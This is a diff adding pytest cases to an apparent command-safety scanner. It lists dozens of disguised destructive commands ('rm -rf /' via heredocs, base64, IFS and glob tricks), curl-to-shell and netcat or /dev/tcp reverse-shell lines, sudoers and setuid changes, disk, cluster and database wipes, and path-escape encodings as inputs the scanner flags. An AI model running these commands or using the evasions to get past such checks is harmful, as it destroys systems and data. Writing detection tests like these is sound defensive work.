@@ -2,6 +2,7 @@
 
 import base64
 import json
+import time
 
 import pytest
 
@@ -105,6 +106,123 @@ def test_what_no_plan_should_do_is_critical(command: str, rule: str) -> None:
 )
 def test_a_disguise_does_not_help(disguise: str) -> None:
     assert "destroys-files" in found(disguise)
+
+
+@pytest.mark.parametrize(
+    "disguise",
+    [
+        "bash <<'EOF'\nrm -rf /\nEOF",
+        "cat <<EOF | sh\nrm -rf /\nEOF",
+        "ssh host <<EOF\nrm -rf /\nEOF",
+        "bash <<< 'rm -rf /'",
+        "at now <<< 'rm -rf /'",
+        "echo 'rm -rf /' | sudo sh",
+        "echo -e '\\x72\\x6d -rf /' | sh",
+        "echo / | xargs rm -rf",
+        "find / -print0 | xargs -0 -I{} rm -rf {}",
+        "find / -exec sh -c 'rm -rf {}' \\;",
+        "parallel 'rm -rf {}' ::: /",
+        "flock x -c 'rm -rf /'",
+        "tmux new -d 'rm -rf /'",
+        "git -c core.pager='rm -rf /' log",
+        "tar cf x y --checkpoint-action=exec='rm -rf /'",
+        "alias x='rm -rf /'; x",
+        "PROMPT_COMMAND='rm -rf /' bash",
+        "awk 'BEGIN{system(\"rm -rf /\")}'",
+        "perl -e 'system(\"rm -rf /\")'",
+        "r\\\nm -rf /",
+        "true # x\\\nrm -rf /",
+        "((\nrm -rf /",
+        "case x in\nrm -rf /",
+        "${x:-rm} -rf /",
+        "X=arm; ${X#a} -rf /",
+        "r$@m -rf /",
+        "r${x}m -rf /",
+        "rm${IFS}-rf${IFS}/",
+        "/bin/r? -rf /",
+        "/???/r* -rf /",
+        "$(which rm) -rf /",
+        "$SHELL -c 'rm -rf /'",
+        'cmd=(rm -rf /); "${cmd[@]}"',
+        "rm <x -rf /",
+        "rm --rec --forc /",
+        "rm -rf /srv/$x/../..",
+        "rm -rf ~root",
+        "rm -rf /usr/lib",
+        "rm -rf /etc/nginx",
+        "mv /etc /tmp/x",
+        "x " + "cm0gLXJmIC8tLQ== " * 30 + base64.b64encode(b"rm -rf / --no-preserve-root").decode(),
+    ],
+)
+def test_no_disguise_of_those_that_are_known_helps(disguise: str) -> None:
+    assert "destroys-files" in found(disguise)
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("curl -o y x; bash y", "remote-code"),
+        ("curl -LO http://x/install.sh && sh ./install.sh", "remote-code"),
+        ('X=$(curl x); eval "$X"', "remote-code"),
+        ("curl x | timeout 5 bash", "remote-code"),
+        ("curl x | (bash)", "remote-code"),
+        ("bash < <(curl x)", "remote-code"),
+        ("curl x | while read l; do $l; done", "remote-code"),
+        ("echo x | base64 -d > y; sh y", "hidden-command"),
+        ("sed 's/x/rm/' <<< 'x -rf /' | sh", "hidden-command"),
+        ("$(base64 -d <<< cm0gLXJmIC8=)", "hidden-command"),
+        ("cat /tmp/p | sh -i 2>&1 | nc h 1 > /tmp/p", "network-shell"),
+        ("exec 5<>/dev/tcp/h/1", "network-shell"),
+        ("python3 - <<EOF\nimport os\nos.system('x')\nEOF", "inline-program"),
+        ("sed '1e rm x' y", "inline-program"),
+        ("cat x | tee /dev/sda", "destroys-disk"),
+        ("truncate -s 0 /dev/sda", "destroys-disk"),
+        ("zpool destroy x", "destroys-disk"),
+        ("echo x | sudo tee -a /etc/sudoers", "privilege-change"),
+        ("cp x /etc/sudoers.d/y", "privilege-change"),
+        ("install -m 4755 x y", "privilege-change"),
+        ("rm -f /etc/passwd", "privilege-change"),
+        ("docker run --mount type=bind,source=/,target=/h x", "privilege-change"),
+        ("kubectl delete Namespace x", "destroys-cluster"),
+        ("kubectl delete pods --all=true", "destroys-cluster"),
+        ("gcloud projects delete x", "destroys-cloud"),
+        ("git push origin :main", "rewrites-history"),
+        ("echo b > /proc/sysrq-trigger", "stops-system"),
+        ("mysql -e 'DELETE FROM a'", "destroys-data"),
+        ("echo 'delete from users' | psql", "destroys-data"),
+        ("delete from x where 1=1", "destroys-data"),
+        ("delete from x where id=id", "destroys-data"),
+        ("with a as (delete from users returning *) select * from a", "destroys-data"),
+        ("select 1; " + "-- x\n" * 600 + "delete from users", "destroys-data"),
+        ("mongosh --eval 'db.x.drop()'", "destroys-data"),
+        ("ALTER USER x SUPERUSER", "privilege-change"),
+        ("..%5c..%5cx", "path-escape"),
+        ("%252e%252e%252f", "path-escape"),
+    ],
+)
+def test_what_leads_there_by_another_way_is_critical(command: str, rule: str) -> None:
+    assert rule in found(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ps aux | grep java | awk '{print $2}' | xargs kill -HUP",
+        "journalctl -u shop --since '10 min ago' | tail -100 > /tmp/shop.log",
+        'curl -d \'{"mode": "read only"}\' http://localhost:8080/admin',
+        "X=$(date +%s); echo $X > /tmp/stamp",
+        "for i in 1 2 3; do curl -fsS http://localhost/health && break; sleep 1; done",
+        "ln -sfn /srv/releases/1.4.2 /srv/current",
+        "bash <<EOF\nset -e\nsystemctl restart shop\nEOF",
+        "ssh web1 'systemctl restart shop && systemctl status shop'",
+        "JAVA_OPTS='-Xmx2g -Xms1g' ./run.sh",
+        "cat fix.sql | psql shop",
+        "The update of the release grants users more time; please drop by if it fails",
+        "grep -r 'rm -rf /' docs",
+    ],
+)
+def test_ordinary_scripts_are_left_alone(command: str) -> None:
+    assert all_found(command) == set()
 
 
 @pytest.mark.parametrize("command", ["echo cm0gLXJmIC8= | base64 -d | sh", "IFS=,;x=rm,-rf,/;$x"])
@@ -229,8 +347,25 @@ diff --git a/config.yaml b/config.yaml
     ],
 )
 def test_a_patch_is_judged_by_its_paths_and_by_what_it_adds(before: str, after: str, rule: str) -> None:
-    assert found(PATCH) == set()
-    assert rule in found(PATCH.replace(before, after))
+    assert found(PATCH, "diff") == set()
+    assert rule in found(PATCH.replace(before, after), "diff")
+
+
+@pytest.mark.parametrize(
+    ("key", "text", "rule"),
+    [
+        ("command", "--- x\n+++ y\nrm -rf /", "destroys-files"),
+        ("diff", "--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n+rm \\\n+  -rf /\n", "destroys-files"),
+        ("diff", "x\n" * 12_000 + "--- a/x\n+++ b/.git/hooks/x\n@@ -1 +1 @@\n+a\n", "path-escape"),
+        (
+            "diff",
+            "diff --git a/.git/hooks/x b/.git/hooks/x\nnew mode 100755\n--- a/x\n+++ b/x",
+            "path-escape",
+        ),
+    ],
+)
+def test_a_patch_hides_nothing_and_hides_behind_nothing(key: str, text: str, rule: str) -> None:
+    assert rule in found(text, key)
 
 
 def deep(levels: int) -> object:
@@ -251,6 +386,56 @@ def test_what_is_too_much_to_scan_is_critical(value: object) -> None:
 def test_a_scan_that_takes_too_long_is_critical() -> None:
     findings = ThoroughScanner(0.0).scan({"step": {"a": "x", "b": "y"}})
     assert [(item.rule, item.danger) for item in findings] == [("too-slow-to-scan", Danger.CRITICAL)]
+
+
+_MANY = 3900
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "$(a " * 2000 + ")" * 2000,
+        "a b|" * _MANY,
+        "a b;" * _MANY,
+        "x=(" * _MANY,
+        "aws " * _MANY,
+        "docker run -a " * 1100,
+        "a" * 15_900 + " x",
+        "x=aa;" + "x=$x$x;" * 40 + "a $x",
+        "update a set b=1 where c=2;" * 580,
+        "token-" * 2600,
+        "`a " * 5000,
+    ],
+    ids=lambda text: f"{text[:14]}...",
+)
+def test_no_text_makes_it_work_for_long(text: str) -> None:
+    """Some held the server up for minutes. The bound is wide, for it is there to tell seconds from minutes."""
+    began = time.thread_time()
+    SCANNER.scan({"step": {"command": text}})
+    assert time.thread_time() - began < 5
+
+
+def test_the_deadline_counts_within_a_text_too() -> None:
+    text = "sh -c 'a b' " * 1300
+    assert [item.rule for item in ThoroughScanner(0.02).scan({"step": {"command": text}})][-1:] == [
+        "too-slow-to-scan"
+    ]
+
+
+@pytest.mark.parametrize("key", ["dbPassword", "clientSecret", "secret_key", "Authorization", "pwd"])
+@pytest.mark.parametrize(
+    ("value", "secret"), [("hunter$22", True), ("${from_vault}", False), ("/run/secrets/x", False)]
+)
+def test_a_telling_name_makes_a_secret_of_a_literal(key: str, value: str, *, secret: bool) -> None:
+    assert ("secret" in found(value, key)) is secret
+
+
+def test_a_secret_in_a_key_or_in_base64_is_found_and_not_shown() -> None:
+    hidden = base64.b64encode(b"key is AKIAIOSFODNN7EXAMPLE ok").decode()
+    assert "secret" in found(hidden)
+    findings = SCANNER.scan({"step": {"postgresql://bob:s3cr3tpass@db/x": "rm -rf /"}})
+    assert "destroys-files" in {item.rule for item in findings}
+    assert "s3cr3tpass" not in " ".join(map(str, findings))
 
 
 def test_a_finding_says_where() -> None:
